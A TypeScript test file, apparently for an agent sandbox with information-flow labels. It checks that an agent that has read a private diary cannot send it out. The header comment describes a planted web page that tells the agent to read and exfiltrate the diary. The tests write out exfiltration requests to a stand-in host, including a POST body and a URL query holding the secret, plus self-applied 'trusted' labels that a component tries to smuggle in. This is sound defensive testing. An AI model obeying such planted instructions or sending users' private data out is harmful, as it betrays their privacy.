// A page that an agent reads tells it to fetch the person's diary with one tool and to send it out with another.
// Every single call is granted, and the agent obeys: what stops it is what its session has done.

import { beforeAll, describe, expect, inject, it } from 'vitest'
import { Agent } from '../support/agent.ts'
import { constants } from '../support/components.ts'
import type { Resident } from '../support/escape.ts'
import {
  allowHost,
  allowPath,
  forget,
  INTRUDER,
  loaded,
  message,
  received,
  refused,
  roam,
  send,
  withIntruder,
} from '../support/escape.ts'
import { beginAnew } from '../support/labels.ts'

const SECRET = 'what nobody else may read'
const OUT = message('http://watched.test/take', { method: 'POST', body: SECRET })
const BY_URL = message(`http://watched.test/?${encodeURIComponent(SECRET)}`)

/** Another client than that of the other attacks: nothing was done through it, and labels are on. */
let victim: Resident
beforeAll(async () => {
  const alice = await withIntruder()
  await allowHost(alice, 'watched.test')
  await allowPath(alice, 'fs://diary', ['read', 'write'])
  await roam(alice, [
    ['make-directory', 'diary'],
    ['write', ['diary/today', SECRET]],
  ])
  const scope = 'tools:call components:manage console'
  victim = { ...alice, agent: await Agent.of(inject('server').url, 'alice', { scope }) }
})

const sent = async (): Promise<string> => JSON.stringify(await received())

describe('an agent that obeys a page', () => {
  it('has read the page, and is given nothing of the diary', async () => {
    expect(await send(victim, [message('http://watched.test/page')])).toEqual(['200 seen'])
    const told = await roam(victim, [
      ['read', 'diary/today'],
      ['read-below', ['diary', 'today']],
      ['list', 'diary'],
      ['rename', ['diary/today', 'diary/tomorrow']],
      ['read', 'diary/tomorrow'],
    ])
    expect(told.filter((line) => line !== 'done')).toEqual(
      Array.from({ length: 4 }, () => 'refused: access'),
    )
    await roam(victim, [['rename', ['diary/tomorrow', 'diary/today']]])
  })

  it('has read the diary first, and sends nothing of it: not in a body, and not in a URL', async () => {
    await beginAnew(victim, victim.agent)
    await forget()
    expect(await roam(victim, [['read', 'diary/today']])).toEqual([`read ${SECRET}`])
    expect(await send(victim, [OUT, BY_URL])).toEqual([
      'HTTP-request-denied',
      'HTTP-request-denied',
    ])
    expect(await sent()).not.toContain('take')
    expect((await received()).watched).toEqual([])
  })

  it('does both at once, eight times: what left was sent by somebody who has read nothing', async () => {
    await beginAnew(victim, victim.agent)
    await forget()
    const eight = Array.from({ length: 8 }, (_, i) => i)
    const [reading, sending] = await Promise.all([
      Promise.all(eight.map(() => roam(victim, [['read', 'diary/today']]))),
      Promise.all(eight.map(() => send(victim, [OUT]))),
    ])
    const hasRead = reading.flat().some((line) => line.includes(SECRET))
    const hasSent = sending.flat().some((line) => line.startsWith('200'))
    expect([hasRead, hasSent].filter(Boolean)).toHaveLength(1)
    expect((await received()).watched.length).toBe(hasSent ? 8 : 0)
  })
})

describe('a component', () => {
  const section = (name: string, words: string): Buffer => {
    const content = Buffer.concat([Buffer.from([name.length]), Buffer.from(name + words)])
    return Buffer.concat([Buffer.from([0, content.length]), content])
  }

  it('cannot take a label from itself: words that are none are not loaded', async () => {
    const plain = await constants({ seven: 7 })
    for (const words of ['-private', 'none', '!outward', 'private=false', 'trusted']) {
      const bytes = Buffer.concat([plain, section('wassette-edge:labels', words)])
      expect(await refused(victim, bytes), words).toMatchObject({ status: 422, there: 0 })
    }
  })

  it('is stopped by what it does, whatever it says of itself', async () => {
    const harmless = Buffer.concat([INTRUDER, section('wassette-edge:labels', '')])
    await loaded(victim, 'intruder', harmless)
    await allowHost(victim, 'watched.test')
    await allowPath(victim, 'fs://diary', ['read'])
    await beginAnew(victim, victim.agent)
    await forget()
    expect(await roam(victim, [['read', 'diary/today']])).toEqual([`read ${SECRET}`])
    expect(await send(victim, [OUT])).toEqual(['HTTP-request-denied'])
    expect((await received()).watched).toEqual([])
    await victim.agent.close()
  })
})
